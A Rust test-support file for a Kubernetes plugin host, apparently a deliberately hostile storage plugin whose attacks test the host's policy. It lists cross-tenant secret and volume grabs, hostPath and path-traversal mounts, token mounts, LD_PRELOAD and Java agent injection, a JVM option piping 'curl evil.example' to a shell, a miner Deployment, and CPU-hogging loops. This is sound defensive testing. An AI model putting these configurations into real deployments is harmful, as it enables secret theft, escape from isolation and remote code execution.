//! What the hostile Tier-2 provider tries, by the name `config.attack` takes (the list and the
//! wiring it returns); `host/tests/hostile.rs` includes this file for the list.

use ecs_plugin_sdk::{EnvVar, PluginError, SecretEnv, Tier2Input, Tier2Wiring};
use serde_json::{Value, json};

/// Every attack, by the name `config.attack` takes.
pub const ATTACKS: &[&str] = &[
    "secret-volume",
    "secret-env",
    "secret-env-no-prefix",
    "other-claim",
    "csi-volume",
    "flex-volume",
    "git-repo-volume",
    "image-volume",
    "iscsi-volume",
    "host-path-volume",
    "cloud-token",
    "token-mount",
    "mount-outside",
    "sub-path",
    "ld-preload",
    "java-tool-options",
    "jvm-on-oom",
    "jvm-agent",
    "jvm-space",
    "nfs-volume",
    "deployment",
    "service",
    "claim-selector",
    "claim-data-source",
    "claim-volume-name",
    "foreign-name",
    "member-labels",
    "pv-csi",
    "pv-other-namespace",
];

fn claim_volume(claim: &str) -> Value {
    json!({"name": "tier2", "persistentVolumeClaim": {"claimName": claim}})
}

fn mount(path: &str) -> Value {
    json!({"name": "tier2", "mountPath": path})
}

/// The honest wiring: FILESYSTEM on the spec's claim, mounted at /mnt/tier2.
fn honest(claim: &str) -> Tier2Wiring {
    Tier2Wiring {
        env: vec![EnvVar::new("TIER2_STORAGE", "FILESYSTEM"), EnvVar::new("NFS_MOUNT", "/mnt/tier2")],
        volumes: vec![claim_volume(claim)],
        mounts: vec![mount("/mnt/tier2")],
        ..Default::default()
    }
}

fn with_volume(claim: &str, volume: Value) -> Tier2Wiring {
    Tier2Wiring { volumes: vec![volume], ..honest(claim) }
}

pub fn attack(input: &Tier2Input, attack: &str) -> Result<Tier2Wiring, PluginError> {
    let cluster = &input.cluster;
    let (name, ns) = (&cluster.name, &cluster.namespace);
    let claim = input.config.get("claimName").and_then(Value::as_str).unwrap_or("ecs-tier2");
    let mut wiring = honest(claim);
    let object = |kind: &str, api_version: &str, name: String, rest: Value| {
        let mut o = json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": name}});
        if let (Some(o), Some(rest)) = (o.as_object_mut(), rest.as_object()) {
            o.extend(rest.clone());
        }
        o
    };
    match attack {
        "" => {}
        "secret-volume" => {
            wiring = with_volume(claim, json!({"name": "tier2", "secret": {"secretName": "other-tenant-db"}}))
        }
        "secret-env" => {
            wiring.secret_env = vec![SecretEnv { secret_name: "other-tenant-db".into(), prefix: "EXTENDEDS3_".into() }]
        }
        "secret-env-no-prefix" => {
            wiring.secret_env = vec![SecretEnv { secret_name: "other-tenant-db".into(), prefix: String::new() }]
        }
        "other-claim" => wiring = with_volume(claim, claim_volume("ecs-x-tier2")),
        "csi-volume" => {
            wiring = with_volume(
                claim,
                json!({"name": "tier2", "csi": {"driver": "hostpath.csi.k8s.io", "volumeAttributes": {"path": "/"}}}),
            )
        }
        "flex-volume" => wiring = with_volume(claim, json!({"name": "tier2", "flexVolume": {"driver": "evil/driver"}})),
        "git-repo-volume" => {
            wiring =
                with_volume(claim, json!({"name": "tier2", "gitRepo": {"repository": "https://evil.example/x.git"}}))
        }
        "image-volume" => {
            wiring = with_volume(claim, json!({"name": "tier2", "image": {"reference": "evil/payload:1"}}))
        }
        "iscsi-volume" => {
            wiring = with_volume(
                claim,
                json!({"name": "tier2", "iscsi": {"targetPortal": "10.0.0.9", "iqn": "x", "lun": 0}}),
            )
        }
        "host-path-volume" => wiring = with_volume(claim, json!({"name": "tier2", "hostPath": {"path": "/"}})),
        "cloud-token" => {
            wiring = with_volume(
                claim,
                json!({"name": "tier2", "projected": {"sources": [
                    {"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}]}}),
            )
        }
        "token-mount" => wiring.mounts = vec![mount("/var/run/secrets/kubernetes.io/serviceaccount")],
        "mount-outside" => wiring.mounts = vec![mount("/opt/ecs/bin")],
        "sub-path" => wiring.mounts = vec![json!({"name": "tier2", "mountPath": "/mnt/tier2", "subPath": "../../../"})],
        "ld-preload" => wiring.env.push(EnvVar::new("LD_PRELOAD", "/mnt/tier2/evil.so")),
        "java-tool-options" => wiring.env.push(EnvVar::new("JAVA_TOOL_OPTIONS", "-javaagent:/mnt/tier2/evil.jar")),
        "jvm-on-oom" => wiring.jvm_options.push("-XX:OnOutOfMemoryError=curl evil.example|sh".into()),
        "jvm-agent" => wiring.jvm_options.push("-javaagent:/mnt/tier2/evil.jar".into()),
        "jvm-space" => wiring.jvm_options.push("-Dhdfs.x=1 -XX:+UnlockDiagnosticVMOptions".into()),
        "nfs-volume" => {
            wiring = with_volume(claim, json!({"name": "tier2", "nfs": {"server": "10.0.0.2", "path": "/"}}))
        }
        "deployment" => wiring.objects.push(object(
            "Deployment",
            "apps/v1",
            format!("{name}-tier2-miner"),
            json!({"spec": {"selector": {"matchLabels": {"app": "miner"}}, "template": {
                "metadata": {"labels": {"app": "miner"}},
                "spec": {"containers": [{"name": "m", "image": "evil/miner:1",
                    "envFrom": [{"secretRef": {"name": "other-tenant-db"}}]}]}}}}),
        )),
        "service" => wiring.objects.push(object(
            "Service",
            "v1",
            format!("{name}-tier2"),
            json!({"spec": {"type": "LoadBalancer", "selector": {"ecs_cluster": name}, "ports": [{"port": 80}]}}),
        )),
        "claim-selector" => wiring.objects.push(object(
            "PersistentVolumeClaim",
            "v1",
            format!("{name}-tier2-data"),
            json!({"spec": {"accessModes": ["ReadWriteMany"], "selector": {"matchLabels": {"tenant": "b"}},
                "resources": {"requests": {"storage": "1Ti"}}}}),
        )),
        "claim-data-source" => wiring.objects.push(object(
            "PersistentVolumeClaim",
            "v1",
            format!("{name}-tier2-data"),
            json!({"spec": {"accessModes": ["ReadWriteOnce"],
                "dataSource": {"kind": "PersistentVolumeClaim", "name": "other-tenant-db-data"},
                "resources": {"requests": {"storage": "1Ti"}}}}),
        )),
        "claim-volume-name" => wiring.objects.push(object(
            "PersistentVolumeClaim",
            "v1",
            format!("{name}-tier2-data"),
            json!({"spec": {"accessModes": ["ReadWriteMany"], "volumeName": "pv-of-tenant-b",
                "storageClassName": "", "resources": {"requests": {"storage": "1Ti"}}}}),
        )),
        "foreign-name" => {
            wiring.objects.push(object("ConfigMap", "v1", format!("{name}-x-ecs-node"), json!({"data": {}})))
        }
        "member-labels" => wiring.objects.push(object(
            "ConfigMap",
            "v1",
            format!("{name}-tier2-config"),
            json!({"metadata": {"name": format!("{name}-tier2-config"), "labels": {"ecs_cluster": "ecs-x"}}}),
        )),
        "pv-csi" => wiring.objects.push(object(
            "PersistentVolume",
            "v1",
            format!("{name}-{ns}-tier2"),
            json!({"spec": {"csi": {"driver": "hostpath.csi.k8s.io", "volumeHandle": "/"},
                "claimRef": {"namespace": ns, "name": claim}, "capacity": {"storage": "1Ti"}}}),
        )),
        "pv-other-namespace" => wiring.objects.push(object(
            "PersistentVolume",
            "v1",
            format!("{name}-{ns}-tier2"),
            json!({"spec": {"nfs": {"server": "10.0.0.2", "path": "/"},
                "claimRef": {"namespace": "kube-system", "name": claim}, "capacity": {"storage": "1Ti"}}}),
        )),
        // Against the runtime rather than the policy: hold on to the instance (the sandbox's deadline
        // and the per-plugin share must keep the other clusters going).
        "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
        "spin" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        other => return Err(PluginError::Failed(format!("unknown attack {other:?}"))),
    }
    Ok(wiring)
}
